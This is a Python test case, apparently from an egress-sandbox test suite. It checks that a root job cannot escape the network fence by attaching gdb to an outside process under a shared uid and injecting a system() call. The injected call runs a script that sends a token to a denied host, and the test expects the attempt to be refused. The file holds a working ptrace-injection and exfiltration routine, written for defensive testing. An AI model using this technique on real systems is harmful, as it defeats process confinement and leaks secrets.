"""A root job takes the uid of a process outside the fence (here uid 65534, a `sleep` the runner started) and drives it with gdb, as a debugger would: `call system(...)` makes the outsider run a program that sends the token to a denied host, from outside every job. The capability check on ptrace passes (same uid, no capability to compare), and without Yama (this machine's kernel has none) so does every other check but the fence's: the job's Landlock domain (cli/landlock.c) or, with BPF LSM, the ptrace_access_check hook refuses it."""
import os
import shutil
import subprocess

from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("root",)
SINKS_OK = []
DENIED = [(D4, 443, "tcp")]
RECORD = [("egress.tamper", {"egress.decision": "deny", "egress.reason": "tamper_ptrace"})]
NEEDS = ["gdb"]


def outside(token, st):
    if not shutil.which("gdb"):
        raise OSError(2, "gdb is missing (make deps installs it)")
    p = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--",
                          "sleep", "30"], stdin=subprocess.DEVNULL)
    st["pids"].append(p.pid)
    return {"args": [p.pid]}


def drive(pid, token):
    script = "/tmp/efsec-ptrace-%d.py" % os.getpid()
    with open(script, "w") as f:
        f.write("import socket\ns = socket.create_connection((%r, 443), timeout=3)\n"
                "s.sendall(%r)\ns.close()\n" % (D4, payload(token, "ptrace outsider")))
    os.chmod(script, 0o644)
    child = os.fork()
    if child == 0:
        os.setgid(65534)
        os.setuid(65534)
        # the outsider's files are the job's (the same host filesystem): no
        # "target:" reads through another mount namespace
        r = subprocess.run(["gdb", "-batch", "-nx", "-ex", "set sysroot /",
                            "-ex", "file /usr/bin/sleep", "-ex", "attach %d" % pid,
                            "-ex", 'call (int)system("/usr/bin/python3 %s")' % script],
                           capture_output=True, text=True, timeout=20)
        out(step="gdb output", result=(r.stdout + r.stderr)[-600:])
        os._exit(0)
    os.waitpid(child, 0)
    os.unlink(script)
    return "done"


def job(token, args):
    attempt("drive the outsider %s with gdb as its uid" % args[0], drive, int(args[0]), token)


if __name__ == "__main__":
    main(globals())
